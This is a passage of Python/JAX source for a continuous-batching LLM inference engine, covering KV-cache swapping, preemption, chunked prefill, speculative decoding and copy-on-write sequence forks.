        # youngest, and a front-insert would then park a younger victim
        # ahead of older swapped work — _admit relies on swapped[0] being
        # the oldest for both pop order and the waiting-head comparison
        bisect.insort(self.swapped, r.req_id)
        return True

    def _swap_offload(self, dev_blocks: list[int],
                      host_slots: list[int]) -> None:
        """Jitted gather of the victim's pool rows → host buffer."""
        n = len(dev_blocks)
        width = _bucket_for(self._swap_buckets, n)
        idx = np.full((width,), self.bm.num_blocks, np.int32)  # pad=scratch
        idx[:n] = dev_blocks
        rows = self._swap_gather_fn(self.cache, jnp.asarray(idx))

        def put(rt, ht, stacked):
            for k, v in rt.items():
                if isinstance(v, dict):
                    put(v, ht[k], stacked or k == "blocks")
                elif stacked:
                    ht[k][:, host_slots] = np.asarray(v[:, :n])
                else:
                    ht[k][host_slots] = np.asarray(v[:n])
        put(rows, self._host_pool, False)

    def _flush_restores(self) -> None:
        """Scatter every pending swap-in restore — possibly several
        victims' worth — back into the pool in ONE bucketed jitted call.
        Runs before any model call that could read the restored rows."""
        if self._restore_pending:
            restores, self._restore_pending = self._restore_pending, []
            self._swap_restore(restores)
            self.swap_scatter_calls += 1

    def _swap_restore(self, restores: list[tuple[int, int]]) -> None:
        """Donating jitted scatter of host rows back into fresh pool
        blocks — the resume half of a swap."""
        slots = [s for s, _ in restores]
        dsts = [b for _, b in restores]
        n = len(restores)
        width = _bucket_for(self._swap_buckets, n)
        idx = np.full((width,), self.bm.num_blocks, np.int32)  # pad=scratch
        idx[:n] = dsts

        def take(ht, stacked):
            out = {}
            for k, v in ht.items():
                if isinstance(v, dict):
                    out[k] = take(v, stacked or k == "blocks")
                elif stacked:
                    buf = np.zeros((v.shape[0], width) + v.shape[2:],
                                   v.dtype)
                    buf[:, :n] = v[:, slots]
                    out[k] = buf
                else:
                    buf = np.zeros((width,) + v.shape[1:], v.dtype)
                    buf[:n] = v[slots]
                    out[k] = buf
            return out
        rows = take(self._host_pool, False)
        self.cache = self._swap_scatter_fn(self.cache, rows,
                                           jnp.asarray(idx))

    def _recover_blocks(self, r: EngineRequest, op):
        """Retry ``op`` (which just raised OutOfBlocks) after preempting
        younger sequences one at a time — a single victim may free nothing
        when every block it held is shared, so keep stealing until the op
        fits.  When nobody is left to steal from, the requester itself is
        finished (the recompute-preemption policy never inverts priority).
        A fork-waiting child may be chosen — it frees nothing (it owns no
        blocks), so the loop simply keeps stealing past it.
        Returns (recovered, op result)."""
        while True:
            victim = self._choose_victim(r.req_id)
            if victim is None:
                r.truncated = True        # cut short, not a chosen stop:
                self._finish(r)           # ranking and finish_reason must
                return False, None        # not mistake this for "stop"
            self._preempt(victim)
            try:
                return True, op()
            except OutOfBlocks:
                continue

    def _evict(self, r: EngineRequest) -> None:
        self.running.remove(r.req_id)
        self._slots[r.slot] = None
        self._tables[r.slot, :] = self.bm.num_blocks
        if self.paged:
            self.bm.free(r.req_id)
        r.slot = -1

    # ----- model calls -----

    def _slot_extras(self, tokens_shape) -> dict:
        ex = {}
        if self.cfg.vision_embed_dim:
            B, S = tokens_shape
            ex["patch_embeds"] = jnp.zeros((B, S, self.cfg.vision_embed_dim),
                                           self.dtype)
            ex["vision_mask"] = jnp.zeros((B, S), bool)
        if self.cfg.cross_attention:
            B = tokens_shape[0]
            ex["encoder_frames"] = jnp.zeros(
                (B, self.cfg.num_encoder_frames, self.cfg.d_model),
                self.dtype)
        return ex

    def _prefill_chunk(self, r: EngineRequest) -> int:
        """Eager reference prefill (``fast_path=False``): one B=1 piece
        for ``r`` written into the global cache via per-slot
        dynamic slices.  Returns the number of tokens sampled — the last
        chunk samples the first output token (plus one per forked child
        when ``r`` leads an unforked group)."""
        self._flush_restores()
        start, target = r.prefill_pos, r.prefill_target
        limit = self.prefill_chunk or (target - start)
        end = min(start + limit, target)
        toks = np.concatenate([r.prompt, np.asarray(r.output, np.int32)])
        chunk = toks[start:end]
        true_len = end - start
        if self._has_state:
            # the chunked SSD scan's decomposition depends on the padded
            # length — pad to the same bucket as the fast path so both
            # decompose identically (fast-vs-eager bit-equality).  State
            # models never start mid-prompt here (no prefix cache, no
            # chunking, no eager swap), so start is always 0 and the
            # bucket stays within the block table.
            pad = _bucket_for(self._len_buckets, true_len)
        elif self.paged:
            pad = -(-true_len // self.block_size) * self.block_size
        else:
            pad = true_len
        padded = np.zeros((pad,), np.int32)
        padded[:true_len] = chunk
        tokens = jnp.asarray(padded)[None]
        positions = jnp.arange(start, start + pad)[None]
        extras = self._slot_extras((1, pad))
        if self.paged:
            extras["block_table"] = jnp.asarray(self._tables[r.slot])[None]
            extras["kv_lengths"] = jnp.asarray([end])
            extras["prefix_len"] = start        # block-aligned by design
        if self._per_slot:
            extras["slot_active"] = jnp.ones((1,), bool)
            extras["seq_valid"] = jnp.arange(pad)[None, :] < true_len
            extras["state_reset"] = jnp.asarray([start == 0])

        slot_cache = self._slice_cache(r.slot)
        hidden, new_cache, _ = forward(
            self.cfg, self.params, tokens, positions=positions,
            mode="prefill", cache=slot_cache, extras=extras)
        self._write_cache(r.slot, new_cache)
        r.prefill_pos = end
        r.state_len = end
        self.prefill_tokens_computed += true_len
        if self.paged:
            self.bm.mark_filled(r.req_id, end)
        if end < target:
            return 0
        logits = logits_last(self.cfg, self.params,
                             hidden[:, true_len - 1:true_len])
        return self._complete_prefill(r, logits)

    def _slice_cache(self, slot):
        """Per-slot [1, ...] view of the cache; block pools stay global.
        Leaves under 'blocks' are layer-stacked (slot dim is axis 1)."""
        return _cache_slice_slot(self.cache, slot)

    def _write_cache(self, slot, new_cache):
        self.cache = _cache_write_slot(self.cache, new_cache, slot)

    def _tp_constrain_cache(self, cache):
        """Pin a jitted step's output cache to the resident shardings.
        Without the explicit constraint GSPMD is free to replicate pools
        at the output — tp× the memory — and the re-laid-out buffers
        would then re-key the next call's input shardings (a retrace per
        step) and break the donation round-trip."""
        if self._cache_ns is None:
            return cache
        return jax.tree.map(jax.lax.with_sharding_constraint, cache,
                            self._cache_ns)

    def _tp_rep(self, x):
        """Keep device-resident step-state feedback replicated."""
        if self._dev_ns is None:
            return x
        return jax.lax.with_sharding_constraint(x, self._dev_ns)

    def _decode_core(self, cfg, params, cache, tokens, positions, tables,
                     active, seeds, temps, top_ks, top_ps, do_filter,
                     do_topk=False, hoist=False):
        extras = self._slot_extras(tokens.shape)
        if hoist:
            extras["hoist_pools"] = True
        if self._per_slot:
            # inactive rows must keep their recurrent state / encoder KV
            # bit-for-bit (they may be prefilling, paused, or empty)
            extras["slot_active"] = active
        if self.paged:
            # inactive slots write to the scratch block
            extras["block_table"] = jnp.where(
                active[:, None], tables, self.bm.num_blocks)
        hidden, new_cache, _ = forward(cfg, params, tokens,
                                       positions=positions, mode="decode",
                                       cache=cache, extras=extras)
        logits = logits_last(cfg, params, hidden)
        # per-sequence position-keyed streams: the token that will occupy
        # position p of row i is a pure function of (seeds[i], p), so the
        # draw is independent of batch composition and step count
        toks, logps = sample_rows(logits, seeds, positions + 1, temps,
                                  top_ks, top_ps, do_filter)
        top = _top_logprobs(logits) if do_topk else None
        return new_cache, toks, logps, top

    def _decode_fast_impl(self, cfg, params, cache, tokens, positions,
                          tables, active, seeds, temps, top_ks, top_ps,
                          cow_src, cow_dst, do_cow, do_filter, do_topk):
        """One fully-jitted decode step over donated cache buffers: apply
        this step's COW block copies inside the pool (only when the host
        saw any — ``do_cow`` is static), run the batched decode, and
        advance the device-resident token/position feedback for the next
        step."""
        if do_cow:
            cache = _pool_copy_rows(cache, cow_src, cow_dst)
        new_cache, toks, logps, top = self._decode_core(
            cfg, params, cache, tokens, positions, tables, active, seeds,
            temps, top_ks, top_ps, do_filter, do_topk, hoist=True)
        next_tokens = self._tp_rep(
            jnp.where(active[:, None], toks[:, None], tokens))
        next_positions = self._tp_rep(
            positions + active.astype(positions.dtype))
        return self._tp_constrain_cache(new_cache), toks, logps, top, \
            next_tokens, next_positions

    def _spec_decode_impl(self, cfg, params, cache, spec_tokens, dev_tokens,
                          positions, tables, active, draft_lens, seeds,
                          temps, top_ks, top_ps, cow_src, cow_dst, do_cow,
                          do_filter, do_topk):
        """One jitted speculative decode step: verify up to K drafts per
        row (q_len=K+1) against donated cache buffers and compute the
        accepted-prefix lengths on device.

        ``spec_tokens[b]`` is ``[t0, d1..dK]`` — the last committed token
        followed by ``draft_lens[b]`` drafts (zero-padded) — at positions
        ``positions[b] .. positions[b]+K``.  The verify forward scatters
        KV for every candidate position (padded/inactive lanes land in the
        scratch block) and attends with per-query lengths; ``verify_rows``
        then replays the per-sequence position-keyed sampler at every
        position, so ``cand[b, :n_acc[b]+1]`` is bitwise the sequence the
        plain one-token path would have emitted.  Rejected tail KV is
        garbage but *harmless*: it sits beyond the committed length, gets
        masked out of every later attention by kv-lengths, and is simply
        overwritten when decoding reaches those positions.

        Token/position feedback advances on device by the data-dependent
        accepted count: the next input token is ``cand[b, n_acc]`` at
        position ``positions[b]+n_acc+1``.  Inactive rows keep their
        existing device feedback (``dev_tokens`` passes through).
        """
        if do_cow:
            cache = _pool_copy_rows(cache, cow_src, cow_dst)
        B, S = spec_tokens.shape
        extras = self._slot_extras((B, S))
        extras["hoist_pools"] = True
        extras["block_table"] = jnp.where(
            active[:, None], tables, self.bm.num_blocks)
        extras["spec_len"] = jnp.where(active, draft_lens + 1, 0)
        pos2d = positions[:, None] + jnp.arange(S, dtype=jnp.int32)[None, :]
        hidden, new_cache, _ = forward(cfg, params, spec_tokens,
                                       positions=pos2d, mode="decode",
                                       cache=cache, extras=extras)
        logits = logits_all(cfg, params, hidden)
        cand, logps, n_acc = verify_rows(
            logits, spec_tokens, draft_lens, seeds, positions, temps,
            top_ks, top_ps, do_filter)
        top = _top_logprobs(logits) if do_topk else None   # [B,S,K]
        n_acc = jnp.where(active, n_acc, 0)
        fb = jnp.take_along_axis(cand, n_acc[:, None], axis=1)   # [B,1]
        next_tokens = self._tp_rep(
            jnp.where(active[:, None], fb, dev_tokens))
        next_positions = self._tp_rep(
            positions + jnp.where(active, n_acc + 1, 0))
        return self._tp_constrain_cache(new_cache), cand, logps, top, \
            n_acc, next_tokens, next_positions

    def _prefill_impl(self, cfg, params, cache, tokens, positions, tables,
                      prefix_len, true_len, kv_len, reset):
        """Jitted batched prefill over donated cache buffers.  All rows run
        in one executable; ``prefix_len``/``true_len``/``kv_len`` are traced
        [B] scalars (see the traced paged-prefill path in models/model.py),
        so the executable is reused across every cached-prefix depth and
        chunk offset — only the (B, L) bucket picks the executable.
        Returns the new cache and per-row last-valid-position logits."""
        B, S = tokens.shape
        extras = self._slot_extras((B, S))
        if self.paged:
            extras["block_table"] = tables
            extras["kv_lengths"] = kv_len
            extras["prefix_len"] = prefix_len
            extras["true_len"] = true_len
        extras["hoist_pools"] = True
        if self._per_slot:
            extras["slot_active"] = true_len > 0
            extras["seq_valid"] = jnp.arange(S)[None, :] < true_len[:, None]
            extras["state_reset"] = reset
        hidden, new_cache, _ = forward(cfg, params, tokens,
                                       positions=positions, mode="prefill",
                                       cache=cache, extras=extras)
        last = jnp.clip(true_len - 1, 0, S - 1)
        h = jnp.take_along_axis(hidden, last[:, None, None], axis=1)
        return self._tp_constrain_cache(new_cache), \
            logits_last(cfg, params, h)

    def _sample_for(self, r: EngineRequest, logits) -> tuple[int, float]:
        """Draw ``r``'s next token (the one that will occupy position
        ``r.total_len``) from its per-sequence stream — the host-side
        twin of the in-decode ``sample_rows`` call, used at prefill
        completion and at group fork.  Returns (token, logprob)."""
        sp = r.params
        tok, lp = sample_rows(
            logits, [r.seq_seed], [r.total_len], [sp.temperature],
            [sp.top_k], [sp.top_p],
            do_filter=sp.top_k > 0 or sp.top_p < 1.0)
        return int(tok[0]), float(lp[0])

    def _host_top(self, r: EngineRequest, logits):
        """Host-side twin of the in-decode top-k export, for tokens drawn
        outside the decode executables (prefill completion, group fork).
        Returns ``r``'s [(token, logprob), ...] slice, or None."""
        if not r.params.top_logprobs:
            return None
        vals, idx = _top_logprobs(logits)
        vals = np.asarray(vals).reshape(-1)
        idx = np.asarray(idx).reshape(-1)
        k = min(int(r.params.top_logprobs), TOP_LOGPROBS_K)
        return [(int(t), float(v)) for t, v in zip(idx[:k], vals[:k])]

    def _row_top(self, r: EngineRequest, tops, slot: int,
                 j: Optional[int] = None):
        """Slice a decode dispatch's exported top-k for one request —
        [(token, logprob), ...] trimmed to its own k, or None.  ``j``
        selects a position within a speculative dispatch's [B,S,K]."""
        if tops is None or not r.params.top_logprobs:
            return None
        vals, idx = tops
        row_v = (vals[slot] if j is None else vals[slot, j]).reshape(-1)
        row_i = (idx[slot] if j is None else idx[slot, j]).reshape(-1)
        k = min(int(r.params.top_logprobs), TOP_LOGPROBS_K)
        return [(int(t), float(v)) for t, v in zip(row_i[:k], row_v[:k])]

    # ----- per-slot (non-paged) cache rows: fork copy + swap records -----

    def _copy_slot_state(self, src: int, dst: int) -> None:
        """Copy every non-pool cache row ``src`` → ``dst`` — the
        per-slot-state half of a fork (pools are aliased by the block
        table instead)."""
        def walk(d, stacked):
            out = {}
            for k, v in d.items():
                if isinstance(v, dict):
                    out[k] = walk(v, stacked or k == "blocks")
                elif k.endswith("_pool"):
                    out[k] = v
                elif stacked:
                    out[k] = v.at[:, dst].set(v[:, src])
                else:
                    out[k] = v.at[dst].set(v[src])
            return out
        self.cache = walk(self.cache, False)

    def _gather_slot_state(self, slot: int) -> dict:
        """Numpy snapshot of the KIND_STATE leaves' ``slot`` rows — the
        opaque swap checkpoint (cross-attention KV is re-prefilled at
        resume, never carried)."""
        def walk(d, path, stacked):
            out = {}
            for k, v in d.items():
                if isinstance(v, dict):
                    sub = walk(v, path + (k,), stacked or k == "blocks")
                    if sub:
                        out[k] = sub
                else:
                    spec = self._specs.get(path + (k,))
                    if spec is not None and spec.kind == KIND_STATE:
                        out[k] = np.asarray(
                            v[:, slot] if stacked else v[slot])
            return out
        return walk(self.cache, (), False)

    def _write_slot_state(self, slot: int, rec: dict) -> None:
        """Write an opaque swap checkpoint back into ``slot``'s rows —
        the resume half of a per-slot-state swap."""
        def walk(d, r, stacked):
            out = {}
            for k, v in d.items():
                if isinstance(v, dict):
                    out[k] = walk(v, r.get(k, {}), stacked or k == "blocks")
                elif k in r:
                    val = jnp.asarray(r[k]).astype(v.dtype)
                    out[k] = v.at[:, slot].set(val) if stacked \
                        else v.at[slot].set(val)
                else:
                    out[k] = v
            return out
        self.cache = walk(self.cache, rec, False)

    def _complete_prefill(self, r: EngineRequest, logits) -> int:
        """Prefill-completion bookkeeping: fork the group's children
        first when ``r`` leads a not-yet-forked group (they share every
        prompt block and draw their first tokens from these same
        logits), then sample ``r``'s own next token.  Returns the number
        of tokens produced."""
        produced = 0
        g = self.groups.get(r.group_id)
        if g is not None and r.child_idx == 0 and not g.forked \
                and g.children_created:
            # fork before the leader's own append: a stop condition may
            # finish the leader and free its blocks, and the children
            # must take their references first
            produced += self._fork_group(g, r, logits)
        tok, lp = self._sample_for(r, logits)
        self._append(r, tok, lp, self._host_top(r, logits))
        return produced + 1

    def _fork_group(self, g: SequenceGroup, leader: EngineRequest,
                    logits) -> int:
        """Fork the group's waiting children off the freshly-prefilled
        leader: each child's block table aliases every prompt block
        (refcounted — COW happens on the first divergent write, inside
        the jitted decode), and each child draws its first token from
        the leader's prefill logits under its own stream.  Children
        preempted while waiting are skipped — they re-derive the same
        token from their own re-prefill."""
        g.forked = True
        produced = 0
        for child in g.requests[1:]:
            if child.state != ReqState.RUNNING or not child.wait_fork:
                continue
            self.bm.fork(leader.req_id, child.req_id)
            self._tables[child.slot] = self._tables[leader.slot]
            if self._per_slot:
                # the child inherits the leader's per-slot rows — the
                # recurrent state / encoder KV at the fork point (the
                # prompt's exact final state)
                self._copy_slot_state(leader.slot, child.slot)
                child.state_len = leader.prefill_target
            child.wait_fork = False
            child.cached_tokens = leader.prefill_target
            child.prefill_pos = leader.prefill_target
            child.prefill_target = leader.prefill_target
            self._positions[child.slot] = leader.prefill_target - 1
            tok, lp = self._sample_for(child, logits)
            self._append(child, tok, lp, self._host_top(child, logits))
            produced += 1
        return produced

    def _append(self, r: EngineRequest, token: int,
                logprob: float = 0.0, top=None) -> None:
        r.output.append(int(token))
        r.token_logprobs.append(float(logprob))
        if r.params.top_logprobs:
            r.top_logprobs.append(top or [])
        r.cum_logprob += float(logprob)
        if r.t_first_token is None:
            r.t_first_token = self._now()
        sink = self._sinks.get(r.group_id)
        if sink is not None:
            # the streaming tap: every harvested/eager/forked token flows
            # out here the moment it is appended, tagged with the
            # sequence's choice index (n>1 groups interleave)
            sink(r.child_idx, int(token))
        sp = r.params
        if (len(r.output) >= sp.max_new_tokens
                or token == sp.stop_token):
            self._finish(r)
        elif self.paged and r.state == ReqState.RUNNING:
            try:
                newblk = self.bm.append_token(r.req_id, token_id=int(token))
                if newblk is not None:
                    nb = len(self.bm.table(r.req_id))
                    self._tables[r.slot, nb - 1] = newblk
            except OutOfBlocks:
                # grab back a block by preempting younger sequences
                ok, newblk = self._recover_blocks(
                    r, lambda: self.bm.append_token(r.req_id,
                                                    token_id=int(token)))
                if ok and newblk is not None:
                    nb = len(self.bm.table(r.req_id))
                    self._tables[r.slot, nb - 1] = newblk

    def _finish(self, r: EngineRequest) -> None:
        if r.state == ReqState.RUNNING:
            self._evict(r)
        elif r.state == ReqState.WAITING and r.req_id in self.waiting:
            # preempted earlier this step, then hit a stop condition on the
            # token computed before preemption — don't re-admit it
            self.waiting.remove(r.req_id)
        elif r.state == ReqState.SWAPPED:
            # same, but the KV went to the host pool: release its slots
            if r.req_id in self.swapped:
                self.swapped.remove(r.req_id)
            self.bm.drop_swap(r.req_id)
            self._host_state.pop(r.req_id, None)
        r.state = ReqState.FINISHED
        r.t_finish = self._now()
        g = self.groups.get(r.group_id)
        if g is not None and g.finished:
            self._sinks.pop(r.group_id, None)

    # ----- the continuous-batching loop -----

    def step(self) -> int:
        """One engine iteration; returns number of tokens produced.

        Order of play: harvest the previous step's async decode (fast
        path), admit whatever fits, run prefill work — one chunk per
        prefilling sequence when chunking is on, the whole remaining
        suffix otherwise — then dispatch one batched decode over every
        fully-prefilled running sequence.  Chunking therefore bounds how
        long a monster prompt can stall everyone else's next token.
        """
        if not self.fast:
            return self._step_legacy()
        self.steps += 1
        produced = self._harvest()
        while True:
            r = self._admit()
            if r is None:
                break
            # unchunked: prefill inline before admitting the next request,
            # so simultaneously-arriving requests with a common prefix
            # find each other's freshly-registered blocks (intra-batch
            # sharing); chunked admissions defer to the batched call below
            if self.prefill_chunk is None and r.prefilling:
                produced += self._run_prefill_batch([r])
        # chunked prefill work (oldest first), one piece per sequence per
        # step, all rows batched into one executable; completion samples
        # the first token
        rows = [self.requests[rid] for rid in list(self.running)
                if self.requests[rid].prefilling
                and not self.requests[rid].paused]
        if rows:
            produced += self._run_prefill_batch(rows)
        self._dispatch_decode()
        return produced

    def _sync_dev(self, name: str, target: np.ndarray):
        """Patch the device-resident array ``name`` so it equals ``target``,
        transferring only rows whose mirror differs."""
        mir = self._mirror[name]
        diff = (mir != target).reshape(len(mir), -1).any(axis=1)
        rows = np.nonzero(diff)[0]
        if rows.size:
            self._dev[name] = self._dev[name].at[rows].set(
                jnp.asarray(target[rows]))
            mir[rows] = target[rows]
        return self._dev[name]

    def _harvest(self) -> int:
        """Fetch the sampled tokens of the previously dispatched decode and
        apply its bookkeeping (append / stop / block accounting).  Runs at
        the start of the next step so the decode itself overlaps whatever
        the host did in between."""
        if self._pending is None:
            return 0
        kind, payload = self._pending[0], self._pending[1:]
        self._pending = None
        if kind == "spec":
            return self._harvest_spec(*payload)
        toks_dev, logps_dev, top_dev, batch, slots, act = payload
        toks = np.asarray(toks_dev)
        logps = np.asarray(logps_dev)
        tops = None if top_dev is None else (np.asarray(top_dev[0]),
                                             np.asarray(top_dev[1]))
        self._mirror["tokens"][act, 0] = toks[act]
        # two passes: ALL rows' cache accounting commits before ANY
        # append.  An append can preempt a later row of this same batch
        # (OutOfBlocks recovery), and that victim's swap checkpoint must
        # already record that output[-1]'s KV landed and the recurrent
        # state integrated it — the state_len == num_filled invariant
        # every swap resume relies on.
        for rid in batch:
            r = self.requests[rid]
            if r.state == ReqState.FINISHED:
                continue                 # aborted while the decode flew
            if self.paged:
                # the KV for output[-1] landed in the pool during that step
                self.bm.mark_filled(rid, r.total_len)
            r.state_len = r.total_len
        produced = 0
        for rid in batch:
            r = self.requests[rid]
            if r.state == ReqState.FINISHED:
                continue
            # use the snapshotted slot: a preemption triggered by an
            # earlier append in this loop unbinds slots, but the token was
            # computed
            self._append(r, int(toks[slots[rid]]),
                         float(logps[slots[rid]]),
                         self._row_top(r, tops, slots[rid]))
            produced += 1
            self.decode_tokens += 1
        return produced

    def _harvest_spec(self, cand_dev, logps_dev, top_dev, nacc_dev, batch,
                      slots, act, pos_snap, dlens) -> int:
        """Harvest a speculative dispatch: commit each row's accepted
        prefix plus the one replayed token, unwind the rejected tail's
        reserved blocks, and repair the device-state mirrors (the spec
        executable advanced token/position feedback by the data-dependent
        accepted counts, so the mirrors could not be updated at dispatch
        like the plain path's)."""
        cand = np.asarray(cand_dev)
        logps = np.asarray(logps_dev)
        tops = None if top_dev is None else (np.asarray(top_dev[0]),
                                             np.asarray(top_dev[1]))
        n_acc = np.asarray(nacc_dev)
        # device feedback after the dispatch: token cand[b, n_acc[b]] at
        # position pos_snap[b] + n_acc[b] + 1 for every active row
        rows = np.nonzero(act)[0]
        self._mirror["tokens"][rows, 0] = cand[rows, n_acc[rows]]
        self._mirror["positions"][rows] = pos_snap[rows] + n_acc[rows] + 1
        nb = self.bm.num_blocks
        # release every row's rejected tail BEFORE committing anyone's
        # tokens: the commits below may need fresh blocks (the bonus token
        # crossing a block boundary), and recovery must find the pool as
        # the plain path would — never preempting, or bowing a sequence
        # out, over blocks that are about to be returned anyway.  Each
        # row keeps exactly what its own commits consume (total_len +
        # accepted tokens; the bonus token's KV lands next dispatch).
        for rid in batch:
            r = self.requests[rid]
            if r.state != ReqState.FINISHED:
                self.bm.trim_reserved(
                    rid, keep_tokens=r.total_len + int(n_acc[slots[rid]]))
        produced = 0
        for rid in batch:
            r = self.requests[rid]
            slot = slots[rid]
            accepted = int(n_acc[slot])
            self.spec_accepted_tokens += accepted
            r.accepted_tokens += accepted
            if r.state == ReqState.FINISHED:
                self.bm.trim_reserved(rid)   # no-op if freed; else unwind
                continue                 # aborted while the decode flew
            # commit the accepted prefix plus the replayed bonus token.
            # Stop conditions can fire mid-prefix (max_new_tokens or a
            # drafted stop token): _finish frees the blocks and the
            # remaining candidates are discarded — exactly the tokens the
            # sequential path would never have produced.
            for j in range(accepted + 1):
                if r.state == ReqState.FINISHED:
                    break
                tok = int(cand[slot, j])
                sp = r.params
                # multi-token commits pull a sequence's block demand
                # *earlier in wall-clock* than sequential decoding would —
                # at the pool's edge that must never turn into a bow-out
                # the plain path would not have taken.  If this commit
                # needs a fresh block, none exists, nobody younger can be
                # preempted, and some *other* sequence is still running
                # (and will eventually finish and free blocks), defer the
                # rest of the prefix: the dropped tokens are re-derived
                # bit-identically by the next dispatch (position-keyed
                # PRNG), so waiting costs steps, never correctness.  With
                # no other runner the pool can't drain — fall through to
                # the plain path's recovery (which bows out exactly where
                # sequential decoding would).
                needs_block = (
                    r.state == ReqState.RUNNING and self.paged
                    and len(r.output) + 1 < sp.max_new_tokens
                    and tok != sp.stop_token
                    and self.bm.blocks_needed(r.total_len + 1)
                    > len(self.bm.table(rid)))
                if (needs_block and self.bm.free_blocks == 0
                        and self._choose_victim(rid) is None
                        and any(self.requests[q].state == ReqState.RUNNING
                                for q in self.running if q != rid)):
                    break
                # tokens 0..total_len-1 hold valid KV: the j-th committed
                # token's own KV landed during the verify scatter (for
                # j <= accepted-1; the bonus token's KV lands next
                # dispatch, like the plain path's)
                self.bm.mark_filled(rid, r.total_len)
                self._append(r, tok, float(logps[slot, j]),
                             self._row_top(r, tops, slot, j))
                produced += 1
                self.decode_tokens += 1
            # roll back the speculative block reservation beyond what the
            # commits consumed; rows preempted/finished mid-loop already
            # freed everything (trim is a no-op for them)
            self.bm.trim_reserved(rid)
            if r.state == ReqState.RUNNING and r.slot >= 0:
                t = len(self.bm.table(rid))
                self._tables[r.slot, t:] = nb
        return produced

    def _run_prefill_batch(self, reqs: list[EngineRequest]) -> int:
        """Advance one prefill piece for every request in ``reqs`` with a
        single jitted bucketed executable.  Returns the number of first
        tokens sampled (prefill completions, plus forked children's first
        draws)."""
        self._flush_restores()
        plans = []
        for r in reqs:
            start, target = r.prefill_pos, r.prefill_target
            limit = self.prefill_chunk or (target - start)
            end = min(start + limit, target)
            plans.append((r, start, end))
        L = _bucket_for(self._len_buckets,
                        max(end - start for _, start, end in plans))
        if self._per_slot:
            # per-slot leaves update by batch row == slot: run the full
            # [n_slots, L] batch with each request placed AT its slot
            # index.  Unused rows carry true_len 0 → slot_active False →
            # their recurrent state / cross KV passes through untouched.
            B = self.n_slots
            rows = [r.slot for r, _, _ in plans]
        else:
            B = _bucket_for(self._b_buckets, len(plans))
            rows = list(range(len(plans)))
        nb = self.bm.num_blocks
        tokens = np.zeros((B, L), np.int32)
        positions = np.zeros((B, L), np.int32)
        tables = np.full((B, self.max_blocks_per_seq), nb, np.int32)
        prefix = np.zeros((B,), np.int32)
        true_len = np.zeros((B,), np.int32)
        kv_len = np.zeros((B,), np.int32)
        reset = np.zeros((B,), bool)
        for i, (r, start, end) in enumerate(plans):
            row = rows[i]
            toks = np.concatenate([r.prompt, np.asarray(r.output, np.int32)])
            tokens[row, :end - start] = toks[start:end]
            positions[row] = np.arange(start, start + L)
            tables[row] = self._tables[r.slot]
            prefix[row] = start
            true_len[row] = end - start
            kv_len[row] = end
            reset[row] = start == 0     # fresh admission: wipe any stale
            #                             state the slot's previous
            #                             occupant left behind
        self.cache, logits = self._prefill_fn(
            self.params, self.cache, jnp.asarray(tokens),
            jnp.asarray(positions), jnp.asarray(tables),
            jnp.asarray(prefix), jnp.asarray(true_len), jnp.asarray(kv_len),
            jnp.asarray(reset))
        produced = 0
        # completions stay interleaved with the per-row accounting: an
        # earlier row's completion can preempt a later unprocessed row,
        # and that victim must keep its smaller pre-batch filled/state_len
        # so re-admission replays the whole batch piece (state_reset at
        # start 0 wipes whatever the executable wrote for it)
        for i, (r, start, end) in enumerate(plans):
            if r.state != ReqState.RUNNING:
                continue   # preempted by an earlier completion's recovery
            r.prefill_pos = end
            r.state_len = end
            self.prefill_tokens_computed += end - start
            if self.paged:
                self.bm.mark_filled(r.req_id, end)
            if end >= r.prefill_target:
                produced += self._complete_prefill(
                    r, logits[rows[i]:rows[i] + 1])
        return produced

    def _propose_drafts(self, r: EngineRequest, spec_toks) -> int:
        """Ask the draft provider for up to K tokens for ``r``, reserve the
        KV blocks the verify scatter will write into, and stage the drafts
        in the dispatch buffer.  Returns the draft length (0 = this row
        runs as a plain decode lane).  Speculation is strictly
        opportunistic: the draft length is capped so the sequence can
        never exceed its sampling or model-length budget, and a block
        shortage drops the drafts rather than preempting anyone."""
        if not r.params.speculation or self.draft_provider is None:
            return 0
        cap = self.spec_draft_len
        if r.params.max_draft_len is not None:
            cap = min(cap, r.params.max_draft_len)
        # the dispatch commits at most cap+1 tokens; stay within both the
        # request budget and the model length (the +1 bonus token included)
        cap = min(cap,
                  r.params.max_new_tokens - len(r.output) - 1,
                  self.max_model_len - 1 - r.total_len)
        if cap <= 0:
            return 0
        draft = self.draft_provider.propose(r, cap)[:cap]
        if not draft:
            return 0
        try:
            self.bm.reserve(r.req_id, r.total_len + len(draft))
        except OutOfBlocks:
            return 0                     # draft-free beats preemption
        table = self.bm.table(r.req_id)
        self._tables[r.slot, :len(table)] = table
        spec_toks[r.slot, 1:1 + len(draft)] = draft
        return len(draft)

    def _dispatch_decode(self) -> None:
        """Assemble and asynchronously dispatch one batched decode over all
        fully-prefilled running sequences; the sampled tokens are fetched
        by ``_harvest`` at the start of the next step."""
        decodable = [rid for rid in self.running
                     if self.requests[rid].decodable]
        if not decodable:
            return
        self._flush_restores()
        nb = self.bm.num_blocks
        K = self.spec_draft_len
        tok_t = self._mirror["tokens"].copy()
        pos_t = self._mirror["positions"].copy()
        tab_t = self._mirror["tables"].copy()
        act_t = np.zeros((self.n_slots,), bool)
        tmp_t = self._mirror["temps"].copy()
        seed_t = self._mirror["seeds"].copy()
        tpk_t = self._mirror["top_ks"].copy()
        tpp_t = self._mirror["top_ps"].copy()
        cow_src = np.full((self.n_slots,), nb, np.int32)
        cow_dst = np.full((self.n_slots,), nb, np.int32)
        spec_toks = np.zeros((self.n_slots, K + 1), np.int32) if K else None
        dlen_t = np.zeros((self.n_slots,), np.int32)
        drafted = {}                     # rid -> draft length this dispatch
        slots = {}                       # snapshot: preemption may unbind
        batch = []
        for rid in decodable:
            r = self.requests[rid]
            if r.state != ReqState.RUNNING:
                continue                 # preempted by an earlier COW
            if self.paged:
                # copy-on-write before scattering into a shared tail block
                try:
                    cow = self.bm.cow_if_shared(rid, r.total_len - 1)
                except OutOfBlocks:
                    # same recovery as the append path: steal from younger
                    # sequences, else bow out
                    ok, cow = self._recover_blocks(
                        r, lambda rid=rid, r=r: self.bm.cow_if_shared(
                            rid, r.total_len - 1))
                    if not ok:
                        continue
                if cow is not None:
                    src, dst = cow
                    cow_src[r.slot], cow_dst[r.slot] = src, dst
                    self._tables[r.slot, (r.total_len - 1)
                                 // self.block_size] = dst
            tok_t[r.slot, 0] = r.output[-1]
            act_t[r.slot] = True
            tmp_t[r.slot] = r.params.temperature
            seed_t[r.slot] = r.seq_seed
            tpk_t[r.slot] = r.params.top_k
            tpp_t[r.slot] = r.params.top_p
            pos_t[r.slot] = r.total_len - 1
            tab_t[r.slot] = self._tables[r.slot]
            self._positions[r.slot] = r.total_len - 1
